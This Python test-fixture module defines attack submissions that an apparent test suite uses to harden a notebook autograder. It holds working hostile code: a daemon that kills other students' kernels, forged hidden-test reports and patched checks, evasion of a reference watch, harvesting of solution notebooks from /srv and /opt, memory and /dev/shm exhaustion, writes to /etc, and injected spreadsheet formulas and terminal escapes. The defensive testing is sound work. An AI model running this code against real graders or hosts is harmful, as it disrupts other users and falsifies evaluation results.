"""What one submission could do to the grader (issue 12), as submissions to notebook 02.

Each :class:`Attack` is a submission built like the corpus' (:func:`grading_corpus.build_submission`), plus,
for some, an action on the submitted folder itself (:attr:`Attack.prepare`): a notebook that is a symbolic
link or a FIFO, files beside it. ``tests/test_security.py`` grades them all *together* with honest
submissions, serially and in two processes, and checks the honest students' exact grades, the attackers'
grades, that nothing is left behind, and the run's wall time.

Attack code must never reach outside this test's own course: the daemon only kills processes whose working
folder is next to its own, the files it writes are named ``course-attack-*``. On a grader without
bubblewrap these attacks are not run at all.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from . import Submission

ASSIGNMENT = "02-one-step-rule"
MARK = "course-attack"

WRONG = {"forward_step": "def forward_step(x_prev, beta, eps):\n    return 0.0 * x_prev\n",
         "forward_chain": "def forward_chain(x0, betas, eps):\n    return np.zeros(3)\n",
         "slip": "x1_toy = x2_slip = eps2_needed = 0.0\n",
         "beta_size_concept": "beta_size_answer = 'A'\n"}

DAEMON = """\
import os, signal, time
_kernel = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # the daemon: kills every other kernel it can see, for 90 s
        _here = os.path.dirname(os.getcwd()) + "/"
        _end = time.time() + 90
        while time.time() < _end:
            for _p in os.listdir("/proc"):
                if _p.isdigit() and int(_p) not in (os.getpid(), _kernel):
                    try:
                        if (os.readlink(f"/proc/{_p}/cwd").startswith(_here)
                                and b"ipykernel" in open(f"/proc/{_p}/cmdline", "rb").read()):
                            os.kill(int(_p), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
os.wait()
"""

FORGE = """\
import os as _os, numpy as _np
from IPython.display import display as _display
from course_lib import forward as _F, hidden as _H
from course_lib.checks import one_step as _C, _questions as _Q
_EMPTY = {empty}
def _send(name, result, kind="call"):
    _display({{"application/vnd.course-lib.hidden+json": {{"what": name, "kind": kind, "rtol": 1e-5, "atol": 1e-8,
              "result": result, "changed": [], "nonce": _os.environ.get("COURSE_LIB_GRADING_NONCE", "")}},
              "text/plain": "hidden test"}}, raw=True)
def _array(value):
    a = _np.asarray(value, dtype=float)
    return {{"type": "array", "shape": list(a.shape), "data": [] if _EMPTY else a.ravel().tolist()}}
def _call(fn, *args, substitute=(), rtol=1e-5, atol=1e-8, **kwargs):
    _send(fn.__name__, _array(getattr(_F, fn.__name__)(*args, **kwargs)))
_x1 = _F.forward_step(0.8, 0.2, -0.2)
_VALUES = {{"x2_slip": _F.forward_step(_x1, 0.2, -0.4130),
           "eps2_needed": (0.3730 - _np.sqrt(0.8) * _x1) / _np.sqrt(0.2)}}
_H.call = _call
_H.value = lambda x, rtol=1e-5, atol=1e-8, name="value": _send(name, _array(_VALUES[name]), "value")
_H.choice = lambda answer, name="answer": _send(
    name, {{"type": "str", "value": next(l for l in "ABCD" if _Q.open_feedback(name, l)[0])}}, "choice")
for _n in dir(_C):
    if _n.startswith("check_"):
        setattr(_C, _n, lambda *a, **k: None)
"""

#: Answers read from course_lib: the slip with the reference, the letter from the sealed questions.
READ_SLIP = ("from course_lib import forward as _F\nx1_toy = _F.forward_step(0.8, 0.2, -0.2)\n"
             "x2_slip = _F.forward_step(x1_toy, 0.2, -0.4130)\n"
             "eps2_needed = (0.3730 - np.sqrt(0.8) * x1_toy) / np.sqrt(0.2)\n")
READ_LETTER = ("from course_lib.checks import _questions as _Q\n"
               "beta_size_answer = next(l for l in 'ABCD' if _Q.open_feedback('beta_size_answer', l)[0])\n")


def _evading(how: str) -> dict[str, str]:
    """Answers that delegate to course_lib's reference around the reference watch."""
    if how == "profile":  # save the profile function, call the reference, put it back
        body = ("    _saved = sys.getprofile()\n    sys.setprofile(None)\n    try:\n"
                "        return _F.{name}({args})\n    finally:\n        sys.setprofile(_saved)\n")
    elif how == "thread":  # the watch is per thread
        body = ("    _out = []\n    _t = threading.Thread(target=lambda: _out.append(_F.{name}({args})))\n"
                "    _t.start()\n    _t.join()\n    return _out[0]\n")
    else:  # the watch's own list of reference files is emptied (in a top cell)
        body = "    return _F.{name}({args})\n"
    head = "import sys, threading\nfrom course_lib import forward as _F\n"
    return {
        "forward_step": head + "def forward_step(x_prev, beta, eps):\n"
                        + body.format(name="forward_step", args="x_prev, beta, eps"),
        "forward_chain": head + "def forward_chain(x0, betas, eps):\n"
                         + body.format(name="forward_chain", args="x0, betas, eps"),
        "slip": READ_SLIP, "beta_size_concept": READ_LETTER}


PATCH_WATCH = "import course_lib.checks._core as _core\n_core._reference_files = lambda: set()\n"

SECOND_CHECKOUT = """\
import glob, json
for _path in glob.glob("/srv/*/solutions/*/*.ipynb") + glob.glob("/opt/*/solutions/*/*.ipynb"):
    try:
        for _cell in json.load(open(_path))["cells"]:
            if _cell["cell_type"] == "code" and _cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]), globals())
    except Exception:
        pass
"""

FORK_MEMORY = """\
import os, time
_children = 0
for _i in range(200):
    try:
        if os.fork() == 0:
            _hold = bytearray(13 * 2**20)
            for _j in range(0, len(_hold), 4096):
                _hold[_j] = 1
            time.sleep(120)
            os._exit(0)
        _children += 1
    except OSError:
        break
print("children started:", _children)
"""

FILL_SHM = f"""\
try:
    with open("/dev/shm/{MARK}-shm", "wb") as _fh:
        for _i in range(512):
            _fh.write(b"x" * 2**20)
except OSError as _e:
    print("/dev/shm:", _e)
"""

SLEEPER = "import time\ntime.sleep({seconds})\n"

UNINTERRUPTIBLE = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"

BIG_LINE = "print('x' * 200_000_000)\n"

DISPLAY_FLOOD = ("from IPython.display import display\nfor _i in range(20_000):\n"
                 "    display({'text/plain': 'y' * 10_000}, raw=True)\n")

BECOME_ROOT = f"""\
import os, signal
for _path in ("/etc/{MARK}-root", "/usr/local/bin/{MARK}-root"):
    try:
        open(_path, "w").write("written by a submission")
    except OSError as _e:
        print(_path, _e)
try:
    os.kill(os.getppid(), signal.SIGKILL)  # the grading process, if the kernel can reach it
except OSError as _e:
    print("kill:", _e)
"""

INJECTED_FLAGS = ['=HYPERLINK("http://example.invalid","graded")', "\x1b[2K\x1b[1A[1/9] alice: 10/10"]


@dataclass(frozen=True)
class Attack:
    """One attack: its submission, an action on the submitted folder, and what the grader must do now."""

    name: str
    submission: Submission
    #: run on (submitted folder, course folder) after the notebook is written
    prepare: Callable[[Path, Path], None] | None = None
    #: points now (``"NOT GRADED"`` for a refused submission), out of 10; a tuple: any of these
    expected: str | tuple[str, ...] = "0/10"
    #: a flag the grader must raise (prefix), if any
    flag: str | None = None
    notebook_metadata: dict = field(default_factory=dict)


def _symlink_to_solution(folder: Path, course: Path) -> None:
    notebook = folder / f"{ASSIGNMENT}.ipynb"
    notebook.unlink()
    notebook.symlink_to(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")


def _fifo(folder: Path, course: Path) -> None:
    notebook = folder / f"{ASSIGNMENT}.ipynb"
    notebook.unlink()
    os.mkfifo(notebook)


def _lone_surrogate(folder: Path, course: Path) -> None:
    """Put a lone surrogate (valid JSON, not valid UTF-8 text) into the forward_step answer's comment."""
    notebook = folder / f"{ASSIGNMENT}.ipynb"
    nb = json.loads(notebook.read_text())
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "forward_step":
            source = "".join(cell["source"])
            cell["source"] = "# a lone surrogate: \ud800\n" + source
    notebook.write_text(json.dumps(nb, ensure_ascii=True))


def _flag_files(folder: Path, course: Path) -> None:
    (folder / f"{ASSIGNMENT}.grading.json").write_text(json.dumps({"flags": INJECTED_FLAGS, "cells": {}}))
    (folder / "extra.grading.json").write_text("{ this is not JSON")
    notebook = folder / f"{ASSIGNMENT}.ipynb"
    nb = json.loads(notebook.read_text())
    nb["metadata"]["course_lib_grading_flags"] = INJECTED_FLAGS
    notebook.write_text(json.dumps(nb))


def _cell(source: str) -> str:
    """An added cell's source as :func:`grading_corpus.build_submission` wants it (it fills in ``{course}``)."""
    return source.replace("{", "{{").replace("}", "}}")


def _tests_after_last(extra: str, count: int = 1) -> tuple[tuple[str, str], ...]:
    return tuple(("test_beta_size_concept", _cell(extra)) for _ in range(count))


def attacks(cell_timeout: float) -> list[Attack]:
    """Every attack, for a course whose per-cell time limit is ``cell_timeout`` seconds."""
    sleep = round(cell_timeout * 0.9, 2)
    return [
        Attack("daemon outlives its kernel (double fork) and kills later kernels",
               Submission("daemon", extra=(("", _cell(DAEMON)),)), expected="8/10"),
        Attack("forged hidden-test reports with empty data arrays",
               Submission("forge empty", WRONG, extra=(("", _cell(FORGE.format(empty=True))),))),
        Attack("forged hidden-test reports filled from the reference",
               Submission("forge reference", WRONG, extra=(("", _cell(FORGE.format(empty=False))),))),
        Attack("reference watch evaded: profile function saved and restored",
               Submission("evade profile", _evading("profile")), flag="reference-implementation-used"),
        Attack("reference watch evaded: reference run in a thread",
               Submission("evade thread", _evading("thread")), flag="reference-implementation-used"),
        Attack("reference watch evaded: the watch's module patched",
               Submission("evade patch", _evading("patch"), extra=(("", _cell(PATCH_WATCH)),)),
               flag="reference-implementation-used"),
        Attack("answers read from course_lib (concept letter from the checks)",
               Submission("read letters", {**WRONG, "beta_size_concept": READ_LETTER})),
        Attack("solutions read from a second checkout of the course",
               Submission("second checkout", WRONG, extra=(("", _cell(SECOND_CHECKOUT)),))),
        Attack("notebook is a symbolic link to the solution", Submission("symlink"),
               prepare=_symlink_to_solution, expected="NOT GRADED"),
        Attack("notebook is a FIFO", Submission("fifo"), prepare=_fifo, expected="NOT GRADED"),
        # its children hold 2.6 of the sandbox's 3 GiB for 120 s in the grading runtime too (an added cell runs
        # there again): on a loaded machine the attacker's own hidden tests may then run out of time
        Attack("200 forked children holding 13 MiB each",
               Submission("fork memory", extra=(("", _cell(FORK_MEMORY)),)), expected=("8/10", "0/10")),
        Attack("/dev/shm filled (512 MiB)", Submission("shm", extra=(("", _cell(FILL_SHM)),)), expected="8/10"),
        Attack("20 added cells sleeping just under the per-cell limit",
               Submission("sleepers", extra=_tests_after_last(SLEEPER.format(seconds=sleep), 20)),
               expected="8/10", flag="timeout"),
        Attack("a cell that ignores interrupts, then 10 more cells",
               Submission("uninterruptible", extra=_tests_after_last(UNINTERRUPTIBLE)
                          + _tests_after_last("print('after')\n", 10)), expected="8/10", flag="timeout"),
        Attack("one 200 MB output line", Submission("big line", extra=(("test_forward_step", _cell(BIG_LINE)),)),
               expected="8/10"),
        Attack("display-output flood (200 MB in 20,000 outputs)",
               Submission("display flood", extra=(("test_forward_step", _cell(DISPLAY_FLOOD)),)), expected="8/10",
               flag="output-truncated"),
        Attack("flags injected through notebook metadata and *.grading.json files",
               Submission("flags", WRONG), prepare=_flag_files),
        Attack("a lone surrogate in an answer cell", Submission("surrogate"), prepare=_lone_surrogate,
               expected="8/10"),
        Attack("kernel writes root-owned files and kills its grading process",
               Submission("root", extra=(("", _cell(BECOME_ROOT)),)), expected="8/10"),
    ]


#: Honest students graded with the attackers, and their exact grades out of 10 (+ written answers).
HONEST = {
    "honest-solution": (Submission("the solution"), "8/10"),
    "honest-misconception": (Submission("beta instead of sqrt(beta)", {
        "forward_step": "def forward_step(x_prev, beta, eps):\n    return np.sqrt(1 - beta) * x_prev + beta * eps\n"}),
        "6/10"),
    "honest-untouched": (None, "0/10"),
}
